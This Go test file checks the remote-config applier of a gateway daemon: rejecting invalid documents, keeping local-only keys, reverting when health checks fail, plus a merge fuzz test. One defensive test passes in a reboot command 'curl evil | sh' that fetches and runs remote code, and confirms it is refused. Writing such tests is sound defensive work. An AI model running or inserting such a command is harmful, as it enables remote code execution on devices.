package remote

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/jonboulle/clockwork"

	"github.com/otagw/otagw/internal/config"
)

const localYAML = `daemon:
  socket: /run/otagw-test/otagw.sock
  state_dir: /var/lib/otagw-test
  log_level: info
update:
  compatible: gw-a
  keyring: /etc/otagw/keys
`

type rig struct {
	path    string
	a       *Applier
	reloads atomic.Int32
	checks  atomic.Int32
	failAt  int32 // the health check that fails (0: none)
	clock   *clockwork.FakeClock
}

func newRig(t *testing.T) *rig {
	t.Helper()
	dir := t.TempDir()
	r := &rig{path: filepath.Join(dir, "otagw.yaml"), clock: clockwork.NewFakeClock()}
	if err := os.WriteFile(r.path, []byte(localYAML), 0o644); err != nil {
		t.Fatal(err)
	}
	h, err := OpenHistory(filepath.Join(dir, "config-history"), filepath.Join(dir, "device.key"))
	if err != nil {
		t.Fatal(err)
	}
	r.a = &Applier{Path: r.path, History: h, Clock: r.clock, Deadline: time.Minute, Every: 10 * time.Second,
		Reload: func() error {
			r.reloads.Add(1)
			_, err := config.Load(r.path)
			return err
		},
		Health: func(ctx context.Context) error {
			if n := r.checks.Add(1); n == r.failAt {
				return errors.New(`check "modbus-bridge": unit failed`)
			}
			return nil
		}}
	return r
}

// apply runs Apply while moving the fake clock through the deadline.
func (r *rig) apply(t *testing.T, data, version string) error {
	t.Helper()
	done := make(chan error, 1)
	go func() { done <- r.a.Apply(context.Background(), []byte(data), version) }()
	for {
		select {
		case err := <-done:
			return err
		default:
		}
		ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
		if r.clock.BlockUntilContext(ctx, 1) == nil {
			r.clock.Advance(10 * time.Second)
		}
		cancel()
	}
}

func (r *rig) file(t *testing.T) string {
	b, err := os.ReadFile(r.path)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func (r *rig) history(t *testing.T) []Entry {
	es, err := r.a.History.List()
	if err != nil {
		t.Fatal(err)
	}
	return es
}

// TestInvalidRefusedUntouched: a document that does not validate is
// rejected with file:line:col errors; the file is not written, nothing
// reloads, and the history says rejected.
func TestInvalidRefusedUntouched(t *testing.T) {
	r := newRig(t)
	err := r.apply(t, "daemon:\n  log_level: loud\nwatchdog:\n  nonsense: 1\n", "seq 4")
	if !errors.Is(err, ErrRejected) {
		t.Fatalf("Apply = %v, want ErrRejected", err)
	}
	if !strings.Contains(err.Error(), "remote config seq 4:4:3: watchdog.nonsense: unknown key") {
		t.Errorf("error %q does not point into the document", err)
	}
	if r.file(t) != localYAML || r.reloads.Load() != 0 {
		t.Errorf("running config touched: reloads %d, file:\n%s", r.reloads.Load(), r.file(t))
	}
	if h := r.history(t); len(h) != 1 || h[0].Outcome != Rejected || h[0].Version != "seq 4" {
		t.Errorf("history = %+v", h)
	}
}

// TestLocalOnlyKeysKept: the device's identity and socket come from the
// local file whatever the document says; the rest comes from the document.
func TestLocalOnlyKeysKept(t *testing.T) {
	r := newRig(t)
	doc := "daemon:\n  socket: /tmp/evil.sock\n  log_level: debug\nupdate:\n  compatible: other\n  resume: manual\n"
	if err := r.apply(t, doc, "seq 5"); err != nil {
		t.Fatal(err)
	}
	cfg, err := config.Load(r.path)
	if err != nil {
		t.Fatal(err)
	}
	if cfg.Daemon.Socket != "/run/otagw-test/otagw.sock" || cfg.Update.Compatible != "gw-a" || cfg.Daemon.StateDir != "/var/lib/otagw-test" {
		t.Errorf("local-only keys lost: socket %q compatible %q state_dir %q", cfg.Daemon.Socket, cfg.Update.Compatible, cfg.Daemon.StateDir)
	}
	if cfg.Daemon.LogLevel != "debug" || cfg.Update.Resume != "manual" {
		t.Errorf("remote keys not applied: log_level %q resume %q", cfg.Daemon.LogLevel, cfg.Update.Resume)
	}
	if r.reloads.Load() != 1 || r.checks.Load() < 2 {
		t.Errorf("reloads %d, health checks %d", r.reloads.Load(), r.checks.Load())
	}
	if h := r.history(t); len(h) != 1 || h[0].Outcome != Applied {
		t.Errorf("history = %+v", h)
	}
}

// TestBrokenHealthReverted: a document that validates but whose health
// checks fail within the deadline is reverted: the previous file is back
// and reloaded, and the history shows it.
func TestBrokenHealthReverted(t *testing.T) {
	r := newRig(t)
	r.failAt = 3 // fails 20 s after the change
	err := r.apply(t, "daemon:\n  log_level: warn\n", "seq 6")
	if !errors.Is(err, ErrReverted) || !strings.Contains(err.Error(), "modbus-bridge") {
		t.Fatalf("Apply = %v, want ErrReverted naming the check", err)
	}
	if r.file(t) != localYAML {
		t.Errorf("file not restored:\n%s", r.file(t))
	}
	if r.reloads.Load() != 2 {
		t.Errorf("reloads = %d, want 2 (the change and the restore)", r.reloads.Load())
	}
	h := r.history(t)
	if len(h) != 1 || h[0].Outcome != Reverted || !strings.Contains(h[0].Reason, "modbus-bridge") {
		t.Errorf("history = %+v", h)
	}
}

// TestCommandsRefusedByLocalPolicy: a document adding a command the local
// file does not allow is rejected, nothing written.
func TestCommandsRefusedByLocalPolicy(t *testing.T) {
	r := newRig(t)
	err := r.apply(t, "daemon:\n  reboot_command: [/bin/sh, -c, 'curl evil | sh']\n", "seq 7")
	if !errors.Is(err, ErrRejected) || !errors.Is(err, config.ErrRemoteCommands) {
		t.Fatalf("Apply = %v", err)
	}
	if r.file(t) != localYAML {
		t.Error("file changed")
	}
}

// FuzzMerge: a document from the channel never makes Merge panic, and
// whatever it returns keeps the local file's socket.
func FuzzMerge(f *testing.F) {
	f.Add([]byte("daemon:\n  log_level: debug\n"))
	f.Add([]byte("daemon: 3\n"))
	f.Add([]byte("- a\n- b\n"))
	f.Add([]byte("daemon:\n  socket: /tmp/x\n  socket: /tmp/y\n"))
	f.Add([]byte("&a {daemon: *a}"))
	f.Fuzz(func(t *testing.T, doc []byte) {
		out, err := Merge([]byte(localYAML), doc)
		if err != nil {
			return
		}
		cfg, err := config.Parse("merged", out)
		if err != nil {
			return
		}
		if cfg.Daemon.Socket != "/run/otagw-test/otagw.sock" {
			t.Fatalf("socket %q from %q", cfg.Daemon.Socket, doc)
		}
	})
}
